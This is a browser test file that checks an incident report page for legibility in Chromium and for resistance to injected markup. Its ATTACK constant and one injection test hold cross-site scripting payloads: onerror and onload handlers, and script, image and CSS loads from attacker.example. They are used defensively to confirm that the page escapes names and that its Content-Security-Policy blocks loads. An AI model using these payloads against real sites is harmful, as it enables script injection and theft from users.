import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { collect } from '../../../src/cli/report/collect.ts';
import { page } from '../../../src/cli/report/page.ts';
import { openJournalReader } from '../../../src/journal/open.ts';
import { type Browser, inPage, open, setView, startChromium } from '../../browser/chromium.ts';
import { findChromium, mustHaveChromium } from '../../browser/find.ts';
import { LOW_CONTRAST, OUTLINE, OVERFLOW } from '../../browser/look.ts';
import { writingJournal } from '../../journal/support.ts';
import { handClock, type Say, writeAttempts } from './incident.ts';
import { parse } from './markup.ts';

const chromium = findChromium();
if (chromium === undefined && !mustHaveChromium()) {
  process.stderr.write('tests in a browser are skipped: there is no chromium in PATH\n');
}

const ATTACK =
  '<img src=x onerror="globalThis.pwned=1"><script src="https://attacker.example/x.js"></script>' +
  '"><svg onload=globalThis.pwned=2></style><style>*{background:url(https://attacker.example/y)}';
const LONG = 'a-very-long-name-without-any-space-in-it'.repeat(12);
const hostile: Say = (plain) =>
  `${plain} ${ATTACK} \u202eesrever\u2066 \u05e9\u05dc\u05d5\u05dd ${LONG}`;

/** The page of an incident, made from a journal. */
function made(say?: Say): string {
  const clock = handClock();
  const { journal, path, epoch } = writingJournal({ clock });
  writeAttempts(journal, epoch, clock, say);
  const reader = openJournalReader({ path, env: {} });
  try {
    const redaction = { keyPatterns: [] };
    return page(collect(reader, 'inc-1', { redaction, at: clock.now(), version: '1.2.3' }));
  } finally {
    reader.close();
  }
}

describe.skipIf(chromium === undefined && !mustHaveChromium())('in Chromium', () => {
  let browser: Browser;
  let folder: string;

  beforeAll(async () => {
    if (chromium === undefined) throw new Error('There is no chromium in PATH, and this is CI.');
    folder = mkdtempSync(join(tmpdir(), 'report-page-'));
    browser = await startChromium(chromium);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    if (folder) rmSync(folder, { recursive: true, force: true });
  });

  const show = async (html: string, name = 'page.html') => {
    const file = join(folder, name);
    writeFileSync(file, html);
    await open(browser, pathToFileURL(file).href);
  };

  test.each([
    ['plain', undefined],
    ['hostile', hostile],
  ])(
    'the %s page is legible in light, dark and on paper, and fits any window',
    { timeout: 120_000 },
    async (_, say) => {
      await setView(browser, { width: 1280, scheme: 'light' });
      await show(made(say));
      for (const scheme of ['light', 'dark'] as const) {
        for (const media of ['screen', 'print'] as const) {
          for (const width of [360, 1280]) {
            await setView(browser, { width, scheme, media });
            const about = `${scheme} ${media} ${width}`;
            const contrast = await inPage<{ seen: number; low: object[] }>(browser, LOW_CONTRAST);
            expect(contrast.seen, about).toBeGreaterThan(100);
            expect(contrast.low, about).toEqual([]);
            const fit = await inPage<{ scrollWidth: number; wide: string[] }>(browser, OVERFLOW);
            expect(fit, about).toEqual({ width, scrollWidth: width, wide: [] });
          }
        }
      }
    },
  );

  test('dark is dark, and paper is white in both schemes', async () => {
    await show(made());
    const background = '() => getComputedStyle(document.body).backgroundColor';
    const seen = async (scheme: 'light' | 'dark', media: 'screen' | 'print') => {
      await setView(browser, { width: 1280, scheme, media });
      return inPage<string>(browser, background);
    };
    expect(await seen('light', 'screen')).toBe('rgb(255, 255, 255)');
    expect(await seen('dark', 'screen')).toBe('rgb(13, 17, 23)');
    expect(await seen('dark', 'print')).toBe('rgb(255, 255, 255)');
  });

  test('hostile names stay text: nothing runs, nothing is loaded, no element comes of them', async () => {
    const html = made(hostile);
    const requests = browser.events('Network.requestWillBeSent').length;
    const logged = browser.events('Log.entryAdded').length;
    await show(html, 'hostile.html');
    const sent = browser.events('Network.requestWillBeSent').slice(requests);
    expect(sent.map(({ request }) => (request as { url: string }).url)).toEqual([
      pathToFileURL(join(folder, 'hostile.html')).href,
    ]);
    // Nothing was even tried that the Content-Security-Policy had to refuse; the style is not refused.
    expect(browser.events('Log.entryAdded').slice(logged)).toEqual([]);
    expect(await inPage(browser, '() => globalThis.pwned ?? "nothing ran"')).toBe('nothing ran');
    expect(
      await inPage(
        browser,
        '() => document.querySelectorAll("script, img, link, iframe, object, form").length',
      ),
    ).toBe(0);
    expect(
      await inPage<string>(browser, '() => document.querySelector("h1").textContent'),
    ).toContain(ATTACK);
    const outline = await inPage<string[]>(browser, OUTLINE);
    const ours = parse(html).tags.filter(({ name }) => /^[a-z]/.test(name) && name !== 'html');
    expect(outline).toEqual(
      ours.map(({ name, attributes }) => [name, ...attributes.keys()].join(' ')),
    );
  });

  test('the policy of the page refuses scripts and images, should one ever get in', async () => {
    const html = made().replace(
      '</body>',
      '<img src="https://attacker.example/a.png"><script>globalThis.pwned = 1</script></body>',
    );
    const requests = browser.events('Network.requestWillBeSent').length;
    await show(html, 'injected.html');
    expect(await inPage(browser, '() => globalThis.pwned ?? "nothing ran"')).toBe('nothing ran');
    const refused = browser
      .events('Network.loadingFailed')
      .filter(({ blockedReason }) => blockedReason === 'csp');
    const tried = browser
      .events('Network.requestWillBeSent')
      .slice(requests)
      .filter(({ type }) => type !== 'Document');
    expect(tried.map(({ requestId }) => requestId)).toEqual(
      refused.map(({ requestId }) => requestId),
    );
    expect(refused).toHaveLength(1);
  });

  test('these looks see what is wrong with a bad page', async () => {
    await setView(browser, { width: 360, scheme: 'light' });
    await show(
      '<!doctype html><meta name="viewport" content="width=device-width"><body style="margin:0"><p style="color:#999;background:#fff">pale</p><p style="width:500px">wide</p>',
      'bad.html',
    );
    const { low } = await inPage<{ low: { text: string }[] }>(browser, LOW_CONTRAST);
    expect(low.map(({ text }) => text)).toEqual(['pale']);
    const { wide } = await inPage<{ wide: string[] }>(browser, OVERFLOW);
    expect(wide).toEqual(['P wide']);
  });
});
